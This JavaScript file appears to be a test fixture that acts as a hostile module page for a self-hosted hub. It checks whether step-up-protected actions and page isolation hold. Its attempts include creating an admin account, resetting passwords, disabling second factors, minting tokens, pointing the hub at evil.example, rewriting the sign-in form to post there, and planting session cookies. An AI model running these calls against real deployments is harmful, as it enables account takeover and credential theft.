// Each attempt is true when it got what it wanted. `step-up` ones must fail from every module, the others from one that
// nobody vouches for. Nothing here knows the owner's password.
const json = { "Content-Type": "application/json" }
let csrf = ""
let people = []
const mine = location.pathname.split("/")[1]

async function read(path, wanted) {
  const answer = await fetch(path, { credentials: "include", headers: { Accept: "application/json, text/html" } })
  return answer.ok && (await answer.text()).includes(wanted)
}

async function act(method, path, body = {}, more = {}) {
  const answer = await fetch(path, {
    method,
    credentials: "include",
    headers: { ...json, "X-Parachute-CSRF": csrf, ...more },
    body: JSON.stringify({ __csrf: csrf, ...body }),
  })
  return answer.ok
}

function other() {
  return people.find((person) => person.role === "member")?.id ?? "unknown"
}

function frame(path) {
  return new Promise((done) => {
    const element = document.createElement("iframe")
    element.src = path
    element.onload = () => {
      try {
        done(element.contentDocument.querySelector("form") !== null)
      } catch {
        done(false)
      }
    }
    element.onerror = () => done(false)
    document.body.append(element)
    setTimeout(() => done(false), 1500)
  })
}

function popup(path, then) {
  const opened = window.open(path, "_blank", "width=300,height=300")
  return new Promise((done) => {
    setTimeout(() => {
      try {
        done(opened !== null && then(opened))
      } catch {
        done(false)
      }
    }, 1500)
  })
}

async function worker(script, scope) {
  const registration = await navigator.serviceWorker.register(script, { scope })
  await registration.unregister()
  return true
}

const attempts = {
  "read: who is signed in": async () => {
    const answer = await (await fetch("/api/me", { credentials: "include" })).json()
    csrf = answer.csrf ?? ""
    return answer.hasSession
  },
  "read: the session document": () => read("/account/session", '"signed_in": true'),
  "read: the account page": () => read("/account", "You are "),
  "read: the second factor page": () => read("/account/2fa", "factor"),
  "read: the people": async () => {
    const answer = await (await fetch("/api/users", { credentials: "include" })).json()
    people = answer.users ?? []
    return people.length > 0
  },
  "read: the audit": () => read("/api/audit", "sign-in"),
  "read: the modules": () => read("/api/modules", "supervised"),
  "read: the sessions": () => read("/api/account/sessions", "sessions"),
  "act: end the other sessions": () => act("DELETE", "/api/account/sessions"),
  "step-up: make an admin": () =>
    act("POST", "/api/users", { username: "mallory", password: "mallory was here first", role: "admin" }),
  "step-up: invite": () => act("POST", "/api/invites"),
  "step-up: change a role": () => act("PATCH", `/api/users/${other()}/role`, { role: "admin" }),
  "step-up: change vaults": () => act("PATCH", `/api/users/${other()}/vaults`, { vaults: {} }),
  "step-up: reset a password": () =>
    act("POST", `/api/users/${other()}/reset-password`, { new_password: "mallory was here first" }),
  "step-up: remove a second factor": () => act("DELETE", `/api/users/${other()}/second-factor`),
  "step-up: delete a person": () => act("DELETE", `/api/users/${other()}`),
  "step-up: move the hub": () => act("PUT", "/api/settings/hub-origin", { hub_origin: "https://evil.example" }),
  "step-up: move the hub by the wizard": () =>
    act("POST", "/admin/setup/expose", { expose_mode: "public", hub_origin: "https://evil.example" }),
  "step-up: install a stranger": () => act("POST", "/api/modules/stranger/install", { package: "@evil/stranger" }),
  "step-up: remove a module": () => act("POST", `/api/modules/${mine}/uninstall`),
  "step-up: go back to an earlier version": () => act("POST", `/api/modules/${mine}/rollback`),
  "step-up: downgrade": () => act("POST", `/api/modules/${mine}/upgrade`, { version: "0.0.1", allow_downgrade: true }),
  "step-up: install a certain version": () => act("POST", `/api/modules/${mine}/install`, { version: "0.0.1" }),
  "step-up: make a vault and get its key": () => act("POST", "/vaults", { name: "mallory" }),
  "step-up: mint a token": () => act("POST", "/api/auth/mint-token", { scope: "parachute:host:auth" }),
  "step-up: rotate the operator token": () => act("POST", "/api/auth/rotate-operator"),
  "step-up: mint an admin token": () => act("POST", "/admin/host-admin-token"),
  "step-up: begin a second factor": () => act("POST", "/api/account/2fa/start"),
  "step-up: switch the second factor off": () => act("POST", "/api/account/2fa/disable"),
  "step-up: change the password": () =>
    act("POST", "/api/account/password", { new_password: "mallory was here first" }),
  "step-up: guess a proof": () => act("POST", "/api/invites", {}, { "X-Parachute-Proof": "guessed" }),
  "step-up: ask for a proof without a password": () =>
    act("POST", "/api/account/step-up", { operation: "user.invite" }),
  "page: frame the sign-in": () => frame("/login"),
  "page: frame the account": () => frame("/account"),
  "page: read a popped-up account": () =>
    popup("/account", (opened) => opened.document.body.textContent.includes("Signed")),
  "page: rewrite a popped-up sign-in": () =>
    popup("/login", (opened) => {
      opened.document.body.innerHTML = '<form action="https://evil.example">Password</form>'
      return opened.document.querySelector("form") !== null && opened.location.pathname === "/login"
    }),
  "page: a worker at the root": () => worker("./worker.js", "/"),
  "page: a worker at the sign-in": () => worker("./worker.js", "/login"),
  "page: a hub page as a worker": () => worker("/static/hub/setup.js", "/"),
  "cookie: read ours": async () => document.cookie.includes("parachute_hub"),
}

async function run() {
  const results = {}
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      results[name] = (await attempt()) === true
    } catch {
      results[name] = false
    }
  }
  // A planted cookie is tried last: it may at most make the hub see nobody.
  try {
    for (const name of ["parachute_hub_session", "parachute_hub_csrf"]) {
      // biome-ignore lint/suspicious/noDocumentCookie: this is the attack
      document.cookie = `${name}=planted-by-a-page-000000000000000000000000; path=/account`
    }
  } catch {
    // A sandboxed page has no cookies to set.
  }
  document.querySelector("p").dataset.results = JSON.stringify(results)
}

run()
